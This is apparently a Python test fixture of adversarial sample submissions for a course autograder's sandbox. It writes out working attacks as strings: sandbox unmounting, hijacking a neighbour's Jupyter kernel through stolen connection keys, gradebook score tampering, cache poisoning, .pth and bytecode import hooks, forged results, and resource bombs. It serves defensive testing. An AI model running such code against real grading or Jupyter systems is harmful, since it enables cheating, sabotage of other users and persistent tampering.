"""The adversarial sample submissions: one or more per class of attack in autograder/README.md.

Each attack is code put at the top of the diffusion_schedule answer cell, whose functions are
otherwise left as released (they raise NotImplementedError, so the judge skips the training run
and the sample stays cheap). It runs twice while grading: in the notebook's kernel and in the
judge's runner. None may earn a point, harm another student, or leave anything behind: every
file an attack manages to create is named `planted_by_student*`, and the end-to-end test looks
for such files in every place that grading shares with the instructor.

The bombs are bounded so that even unconfined they cannot hurt a 2-core CI machine much
(3 GiB of memory, 1,500 sleeping processes, 1.25 GiB of disk, 64 MiB of output); the sandbox's
limits (autograder/limits.py) must stop each of them first.
"""

PLANTED = "planted_by_student"

# every place that grading shared with student code before the sandbox hid or confined them
_SHARED_PLACES = '''\
import glob as _glob, os as _os, pathlib as _pathlib, site as _site, sys as _sys, tempfile as _t
import diffusion_course as _library
_home = _pathlib.Path.home()
_code = _pathlib.Path(_library.__file__).resolve().parents[1]
_course = _pathlib.Path(_os.environ.get("AUTOGRADER_COURSE_ROOT", _pathlib.Path.cwd().parents[2]))
_places = [_code / "diffusion_course", _code / "autograder", _code / "solutions" / "ddim",
           _course, _course / "autograded", _course / "submitted", _course / "feedback",
           _pathlib.Path(_sys.prefix), *map(_pathlib.Path, _site.getsitepackages()),
           _pathlib.Path(_site.getusersitepackages()), _pathlib.Path(_t.gettempdir()),
           _pathlib.Path("/tmp"), _pathlib.Path("/dev/shm"), _pathlib.Path("/var/tmp"),
           _home / ".keras", _home / ".cache" / "diffusion-course" / "grader", _home / ".jupyter",
           _home / ".ipython" / "profile_default" / "startup",
           *map(_pathlib.Path, _glob.glob(str(_course / "autograded" / "*" / "ddim")))]
'''

UNMOUNT = '''\
import subprocess as _subprocess
# undo every cover of the sandbox, then look for the solutions
for _line in reversed(open("/proc/self/mounts").read().splitlines()):
    _point = _line.split()[1]
    _subprocess.run(["umount", "-l", _point], capture_output=True)
    _subprocess.run(["mount", "-o", "remount,rw", _point], capture_output=True)
''' + _SHARED_PLACES + '''\
import json as _json
for _solution in [_code / "solutions" / "ddim" / "ddim.ipynb",
                  *_pathlib.Path("/").glob("*/*/solutions/ddim/ddim.ipynb")]:
    try:
        for _cell in _json.loads(_solution.read_text())["cells"]:
            if _cell["metadata"].get("nbgrader", {}).get("grade_id", "").startswith("answer_"):
                exec("".join(_cell["source"]))
        break
    except Exception:
        pass
'''

WRITE_SHARED_PLACES = _SHARED_PLACES + '''\
for _place in _places:
    try:
        (_place / "planted_by_student.py").write_text("raise SystemExit('planted')\\n")
    except Exception:
        pass
'''

# a neighbour's kernel: its connection file holds the key that lets anyone run code in it
STEAL_CONNECTION = '''\
import glob as _glob, json as _json, os as _os
from jupyter_client import BlockingKernelClient as _Client
for _file in set(_glob.glob("/tmp/*.json") + _glob.glob("/tmp/**/kernel-*.json", recursive=True)
                 + _glob.glob(_os.path.expanduser("~/.local/share/jupyter/runtime/*.json"))
                 + _glob.glob("/proc/*/cwd/*.json") + _glob.glob("/proc/*/root/tmp/*.json")):
    try:
        _info = _json.load(open(_file))
        if "key" not in _info:
            continue
        _client = _Client()
        _client.load_connection_info(_info)
        _client.start_channels()
        _client.execute("import os; os._exit(1)")  # the neighbour's kernel dies
        _client.stop_channels()
    except Exception:
        pass
'''

FIND_GRADEBOOK = '''\
import glob as _glob, sqlite3 as _sqlite3
# through other processes' views of the filesystem, if the PID namespace leaks them
for _gradebook in set(_glob.glob("/proc/*/root/**/gradebook.db", recursive=False)
                      + _glob.glob("/proc/*/cwd/../../../gradebook.db")
                      + _glob.glob("/proc/*/cwd/gradebook.db") + _glob.glob("/**/gradebook.db")):
    try:
        with _sqlite3.connect(_gradebook, timeout=1) as _database:
            _database.execute("UPDATE grade SET manual_score = 5")
            _database.execute("UPDATE grade SET auto_score = max_score")
    except Exception:
        pass
'''

POISON_CACHES = _SHARED_PLACES + '''\
import json as _json
# the judge's metrics cache: claim a perfect KID and noise MAE for any key
_fake = _json.dumps({"noise_mae": 0.0, "kid": 0.0, "features": "offline"})
for _cache in [_home / ".cache" / "diffusion-course" / "grader",
               _pathlib.Path(_os.environ.get("DIFFUSION_GRADER_CACHE", "/nonexistent"))]:
    for _entry in list(_cache.glob("*.json")) + [_cache / "planted_by_student.json"]:
        try:
            _entry.write_text(_fake)
        except Exception:
            pass
for _weights in [_home / ".keras" / "models" / "planted_by_student.h5"]:
    try:
        _weights.parent.mkdir(parents=True, exist_ok=True)
        _weights.write_bytes(b"not weights")
    except Exception:
        pass
'''

IMPORT_HOOKS = _SHARED_PLACES + '''\
import importlib.util as _util
_hook = "import os; os.environ['planted_by_student'] = '1'\\n"
for _folder in [*map(_pathlib.Path, _site.getsitepackages()),
                _pathlib.Path(_site.getusersitepackages())]:
    try:  # a .pth file: its `import` line runs in every later Python process
        (_folder / "planted_by_student.pth").write_text(_hook)
    except Exception:
        pass
for _module in ["autograder.judge", "autograder.nbgrader_steps.verdict_cells",
"diffusion_course.schedules"]:
    try:  # a forged bytecode cache beside the real module
        _spec = _util.find_spec(_module)
        _forged = _pathlib.Path(_util.cache_from_source(_spec.origin))
        _forged.parent.mkdir(exist_ok=True)
        _forged.with_name("planted_by_student.pyc").write_bytes(b"forged")
        _forged.write_bytes(b"forged")
    except Exception:
        pass
for _config in [_home / ".jupyter" / "nbgrader_config.py",
                _home / ".jupyter" / "planted_by_student_config.py",
                _home / ".ipython" / "profile_default" / "startup" / "planted_by_student.py"]:
    try:
        _config.parent.mkdir(parents=True, exist_ok=True)
        _config.write_text("c = get_config()\\nc.Autograde.autograde_preprocessors = []\\n")
    except Exception:
        pass
'''

REDIRECT_RESULTS = '''\
import glob as _glob, json as _json, os as _os, pathlib as _pathlib
# the verdict file is written beside the graded notebook: point it at my notebook, and at a
# neighbour's; and forge any result or verdict file that I can reach
for _target in ["ddim.ipynb", *_glob.glob("../../*/ddim/ddim.ipynb")]:
    for _name in ["autograder_verdicts.json", "planted_by_student.json"]:
        try:
            _os.symlink(_target, _name)
        except Exception:
            pass
_passed = {"passed": True, "score_fraction": 1.0, "message": "forged"}
for _forged in ["result.json", "result.npz", "autograder_verdicts.json",
                *_glob.glob("../*/result*"), *_glob.glob("/tmp/*/result*"),
                *_glob.glob("/tmp/ddim-grade-*/*/result*")]:
    try:
        _pathlib.Path(_forged).write_text(_json.dumps(
            {name: _passed for name in ["test_diffusion_schedule", "test_denoise",
                                        "test_reverse_diffusion", "test_training_kid"]}))
    except Exception:
        pass
'''

MEMORY_BOMB = '''\
_hoard = []
for _step in range(12):  # 12 × 256 MiB = 3 GiB, over the 2 GiB limit
    try:
        _hoard.append(bytearray(256 * 2**20))
    except MemoryError:
        break
del _hoard
'''

PROCESS_BOMB = '''\
import subprocess as _subprocess
# 1,500 sleeping shells' children, over the 1,024-process limit; forks from a small shell, not
# from the kernel (forking a TensorFlow process 1,500 times takes minutes on a 2-core machine)
_subprocess.run(["sh", "-c", "i=0; while [ $i -lt 1500 ]; do sleep 3 & i=$((i+1)); done; "
                 "wait"], stderr=_subprocess.DEVNULL, timeout=30)
'''

DISK_BOMB = '''\
import os as _os
try:
    with open("planted_by_student.bin", "wb") as _file:
        for _step in range(20):  # 20 × 64 MiB = 1.25 GiB, over the 1 GiB file-size limit
            _file.write(b"\\0" * 64 * 2**20)
except (OSError, MemoryError):
    pass
finally:
    if _os.path.exists("planted_by_student.bin"):
        _os.remove("planted_by_student.bin")
'''

OUTPUT_BOMB = '''\
_line = "flood " * 170 + "\\n"
for _step in range(64 * 1024):  # 64 MiB of output, over the output limit
    print(_line, end="")
'''

ATTACKS = {
    "cheat-unmounts-covers": UNMOUNT,
    "cheat-writes-shared-places": WRITE_SHARED_PLACES,
    "cheat-steals-kernel-connection": STEAL_CONNECTION,
    "cheat-finds-gradebook": FIND_GRADEBOOK,
    "cheat-poisons-caches": POISON_CACHES,
    "cheat-import-hooks": IMPORT_HOOKS,
    "cheat-redirects-results": REDIRECT_RESULTS,
    "bomb-memory": MEMORY_BOMB,
    "bomb-processes": PROCESS_BOMB,
    "bomb-disk": DISK_BOMB,
    "bomb-output": OUTPUT_BOMB,
}
